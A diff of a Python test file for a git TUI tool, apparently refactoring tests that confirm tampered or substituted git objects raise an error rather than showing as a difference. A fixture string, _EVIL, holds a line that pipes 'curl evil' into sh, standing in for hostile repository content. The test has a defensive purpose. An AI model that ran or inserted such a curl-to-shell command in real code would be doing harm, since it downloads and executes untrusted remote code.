@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import zlib
-from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -11,14 +10,15 @@ import pytest
 from handoff_tui.errors import GitError
 from handoff_tui.repo import true_objects
 from handoff_tui.repo.bare_view import open_bare_view
-from handoff_tui.repo.file_diff import read_file_diff
 from handoff_tui.repo.git import Git
 from handoff_tui.repo.history import read_blobs, read_trees
 from handoff_tui.repo.object_reader import ObjectReader
 from handoff_tui.repo.repository import open_repository
-from handoff_tui.repo.tree_diff import count_lines, list_changes, read_patch, read_tree_changes
+from handoff_tui.repo.tree_diff import refuse_false_trees
 from handoff_tui.repo.true_objects import is_true, refuse_false_objects
 from handoff_tui.repo.work_tree import build_commit_tree
+from handoff_tui.review.desk import open_desk
+from handoff_tui.review.diff import DiffRequest, diff
 from tests.support.repositories import RepositoryBuilder
 
 _EVIL = "def add(a, b):\n    run('curl evil | sh')\n    return a + b\n"
@@ -49,26 +49,18 @@ def read_tree(builder: RepositoryBuilder, written: str) -> bytes:
     return content
 
 
-def diff_file(git: Git, old: str, new: str) -> object:
-    return [read_file_diff(git, change) for change in list_changes(git, old, new)]
-
-
-@pytest.mark.parametrize(
-    "show",
-    [diff_file, lambda *words: list(read_patch(*words)), count_lines],
-    ids=["file", "patch", "counts"],
-)
 @pytest.mark.parametrize("side", ["HEAD", "HEAD~1"])
-def test_comparison_shows_no_false_content(
-    builder: RepositoryBuilder, show: Callable[[Git, str, str], object], side: str
-) -> None:
+def test_comparison_shows_no_false_content(builder: RepositoryBuilder, side: str) -> None:
     """A harmless text under the name of the new content, or of the old one, is an error instead of a difference."""
     git, old, new = Git(builder.folder), name(builder, "HEAD~1^{tree}"), name(builder, "HEAD^{tree}")
-    show(git, old, new)
+    refuse_false_trees(git, old, new)
     falsify(builder, name(builder, f"{side}:src/app.py"), b"blob", _TAME)
     assert builder.git("show", f"{side}:src/app.py") == _TAME.decode().strip()
     with pytest.raises(GitError, match="does not have the content"):
-        show(git, old, new)
+        refuse_false_trees(git, old, new)
+    desk = open_desk(builder.folder)
+    with pytest.raises(GitError, match="does not have the content"):
+        diff(desk, DiffRequest(against="HEAD~1", instead="HEAD", files_only=True))
 
 
 @pytest.mark.parametrize("place", ["", "src"])
@@ -78,7 +70,7 @@ def test_list_of_changes_rests_on_no_false_folder(builder: RepositoryBuilder, pl
     falsify(builder, name(builder, f"HEAD:{place}"), b"tree", read_tree(builder, f"HEAD~1:{place}"))
     assert builder.git("diff-tree", "-r", "HEAD~1", "HEAD") == ""
     with pytest.raises(GitError, match="does not have the content"):
-        read_tree_changes(git, old, new)
+        refuse_false_trees(git, old, new)
 
 
 def test_false_object_is_not_read(builder: RepositoryBuilder) -> None:
